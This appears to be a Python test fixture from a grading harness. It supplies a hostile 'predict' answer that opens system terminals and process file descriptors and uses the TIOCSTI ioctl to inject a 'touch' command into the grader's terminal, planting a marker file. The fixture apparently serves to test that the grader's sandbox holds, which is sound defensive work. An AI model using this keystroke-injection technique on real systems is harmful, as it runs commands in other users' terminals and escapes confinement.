"""Pushes characters into the grader's terminal and opens its controlling one."""

from tests.grading.hostile.channels import tried

ANSWERS = {
    "predict": tried("""
import fcntl, glob, os
for name in ("/dev/tty", "/dev/console", "/dev/ptmx", *glob.glob("/dev/pts/*"),
             *glob.glob("/proc/*/fd/[012]")):
    try:
        number = os.open(name, os.O_RDWR | os.O_NONBLOCK)
        for letter in b"touch @COURSE@/hostile_plant\\n":
            fcntl.ioctl(number, 0x5412, bytes([letter]))
        os.write(number, b"hostile_plant")
    except OSError:
        pass
""")
}
